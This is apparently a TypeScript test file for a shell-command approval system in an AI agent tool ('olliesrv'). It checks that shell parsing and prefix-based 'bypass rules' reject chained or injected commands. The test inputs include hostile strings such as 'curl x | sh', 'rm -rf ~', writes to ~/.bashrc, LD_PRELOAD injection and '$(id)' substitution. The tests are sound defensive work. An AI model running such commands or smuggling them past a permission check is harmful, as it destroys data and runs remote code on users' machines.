import { describe, expect, it } from 'vitest';
import { BypassRuleStore, checkRule, ruleFor, ruleMatches } from '../../src/olliesrv/store/bypass.js';
import { openDatabase } from '../../src/olliesrv/store/db.js';
import { quoteWords, shellWords } from '../../src/olliesrv/store/shellwords.js';

const sh = (command: string) => ({ tool: 'shell', cmd: `shell ${command}`, command });

describe('shell words', () => {
  it('reads plain words, quotes and escapes as bash would', () => {
    expect(shellWords('npm test -- --watch')).toEqual({ words: ['npm', 'test', '--', '--watch'] });
    expect(shellWords(`git commit -m 'a b' "c d" e\\ f ''`)).toEqual({
      words: ['git', 'commit', '-m', 'a b', 'c d', 'e f', ''],
    });
    expect(shellWords(`echo 'it'\\''s'`)).toEqual({ words: ['echo', "it's"] });
    expect(shellWords("'FOO=1' x")).toEqual({ words: ['FOO=1', 'x'] });
  });

  it('refuses everything it does not fully understand, saying what and where', () => {
    const refused = (c: string) => (shellWords(c) as { refused: string }).refused;
    expect(refused('npm test; curl x | sh')).toBe('shell operator ";" at character 9');
    expect(refused('npm test && rm -rf ~')).toMatch(/shell operator "&" at character 10/);
    expect(refused('npm test $(id)')).toMatch(/"\$" at character 10/);
    expect(refused('npm test `id`')).toMatch(/"`"/);
    expect(refused('npm test > ~/.bashrc')).toMatch(/operator ">"/);
    expect(refused('npm test\nrm -rf ~')).toMatch(/operator newline at character 9/);
    expect(refused('npm test "$HOME"')).toMatch(/inside double quotes/);
    expect(refused('npm test ${X}')).toMatch(/"\$"/);
    expect(refused('(npm test)')).toMatch(/operator "\("/);
    expect(refused('npm test *')).toMatch(/"\*"/);
    expect(refused('LD_PRELOAD=/tmp/x.so npm test')).toMatch(/variable assignment/);
    expect(refused('if true')).toMatch(/keyword "if"/);
    expect(refused("npm 'test")).toMatch(/unterminated single quote at character 5/);
    expect(refused('npm test\u202e')).toMatch(/U\+202E at character 9/);
    expect(refused('npm test\u00a0x')).toMatch(/U\+00A0/);
    expect(refused('  ')).toBe('an empty command');
  });

  it('quotes words back into a line that reads as the same words', () => {
    for (const w of [
      ['npm', 'test'],
      ['echo', "it's", 'a b', '', '$x;y'],
      ['FOO=1', 'x'],
    ]) {
      expect(shellWords(quoteWords(w))).toEqual({ words: w });
    }
  });
});

describe('bypass rules', () => {
  it('an approved npm test covers npm test with more arguments, and nothing with operators or other words', () => {
    const rule = ruleFor(sh('npm test'));
    expect(rule).toEqual({ tool: 'shell', kind: 'prefix', rule: 'npm test' });
    const r = rule as Exclude<typeof rule, { refused: string }>;
    expect(ruleMatches(r, sh('npm test'))).toBe(true);
    expect(ruleMatches(r, sh('npm test -- --watch'))).toBe(true);
    expect(ruleMatches(r, sh("npm 'test'"))).toBe(true);
    for (const c of [
      'npm test; curl x | sh',
      'npm test && rm -rf ~',
      'npm testx',
      'npm test $(id)',
      'npm test `id`',
      'npm test || true',
      'npm test & curl x',
      'npm test > ~/.bashrc',
      'npm test\ncurl x|sh',
      'npm',
      'npm install',
      'X=1 npm test',
      'npm test "$(id)"',
    ]) {
      expect(ruleMatches(r, sh(c)), c).toBe(false);
    }
    expect(ruleMatches(r, { tool: 'other', cmd: 'other npm test', command: 'npm test' })).toBe(false);
  });

  it('added words are operands: options and settings only after a --', () => {
    const rule = (words: string) => ({ tool: 'shell', kind: 'prefix' as const, rule: words });
    expect(ruleMatches(rule('npm test'), sh('npm test -- --watch --grep=x'))).toBe(true);
    expect(ruleMatches(rule('npm test'), sh('npm test src/a.test.ts'))).toBe(true);
    expect(ruleMatches(rule('npm test'), sh('npm test --prefix /tmp/x'))).toBe(false);
    expect(ruleMatches(rule('find . -name x'), sh("find . -name x -exec sh -c 'curl x|sh' \\;"))).toBe(false);
    expect(ruleMatches(rule('git log'), sh('git log --output=/root/.bashrc'))).toBe(false);
    expect(ruleMatches(rule('make test'), sh('make test SHELL=/tmp/x'))).toBe(false);
    expect(ruleMatches(rule('git log --'), sh('git log -- --weird-path'))).toBe(true);
  });

  it('commands with operators, a program alone, programs that join arguments into code, and JSON calls get exact rules', () => {
    expect(ruleFor(sh('npm test && npm run lint'))).toEqual({
      tool: 'shell',
      kind: 'exact',
      rule: 'npm test && npm run lint',
    });
    expect(ruleFor(sh('make'))).toEqual({ tool: 'shell', kind: 'exact', rule: 'make' });
    expect(ruleFor(sh('eval echo hi'))).toEqual({ tool: 'shell', kind: 'exact', rule: 'eval echo hi' });
    expect(ruleFor(sh('ssh host ls'))).toMatchObject({ kind: 'exact' });
    expect(ruleFor({ tool: 'file_write', cmd: 'file_write {"path":"/etc/x"}' })).toEqual({
      tool: 'file_write',
      kind: 'exact',
      rule: '{"path":"/etc/x"}',
    });
    const exact = ruleFor(sh('npm test && npm run lint')) as { tool: string; kind: 'exact'; rule: string };
    expect(ruleMatches(exact, sh('npm test && npm run lint'))).toBe(true);
    expect(ruleMatches(exact, sh('npm test && npm run lint; curl x | sh'))).toBe(false);
    expect(ruleFor(sh('npm test\nrm -rf ~'))).toEqual({
      refused: expect.stringMatching(/only be approved once/) as string,
    });
  });

  it('refuses malformed and overbroad rules with a clear error', () => {
    expect(() => checkRule({ tool: 'shell', kind: 'prefix', rule: '*' })).toThrow(
      /not a plain command .*wildcards, operators and expansions are never rules/,
    );
    expect(() => checkRule({ tool: 'shell', kind: 'prefix', rule: 'npm *' })).toThrow(/never rules/);
    expect(() => checkRule({ tool: 'shell', kind: 'prefix', rule: 'npm' })).toThrow(/too broad/);
    expect(() => checkRule({ tool: 'shell', kind: 'prefix', rule: 'eval echo' })).toThrow(
      /joins its arguments into code/,
    );
    expect(() => checkRule({ tool: '*', kind: 'exact', rule: 'x' })).toThrow(/bad tool name/);
    expect(() => checkRule({ tool: 'shell', kind: 'exact', rule: ' ' })).toThrow(/needs the command/);
  });

  it('are stored, listed, matched by scope and revoked; old glob rules are dropped with a log line', () => {
    const db = openDatabase(':memory:');
    db.prepare('INSERT INTO bypass_rule (pattern, created) VALUES (?, ?)').run('*', 1);
    const logs: string[] = [];
    const rules = new BypassRuleStore(db, (m) => logs.push(m));
    expect(logs).toEqual([expect.stringMatching(/dropped the old "always" rule "\*"/) as string]);
    expect(db.prepare('SELECT COUNT(*) AS n FROM bypass_rule').get()).toEqual({ n: 0 });
    const a = rules.add({ tool: 'shell', kind: 'prefix', rule: 'git push' });
    expect(rules.add({ tool: 'shell', kind: 'prefix', rule: 'git push' })).toEqual(a);
    const b = rules.add({ tool: 'shell', kind: 'prefix', rule: 'npm test' }, 'S1');
    expect(rules.list().map((r) => [r.rule, r.session])).toEqual([
      ['git push', null],
      ['npm test', 'S1'],
    ]);
    expect(rules.match(sh('git push origin main'), 'S2')).toEqual(a);
    expect(rules.match(sh('npm test'), 'S1')).toEqual(b);
    expect(rules.match(sh('npm test'), 'S2')).toBeUndefined();
    expect(() => rules.add({ tool: 'shell', kind: 'prefix', rule: '*' })).toThrow(/never rules/);
    rules.forgetSession('S1');
    expect(rules.remove(a.id)).toBe(true);
    expect(rules.remove(a.id)).toBe(false);
    expect(rules.list()).toEqual([]);
    db.close();
  });
});
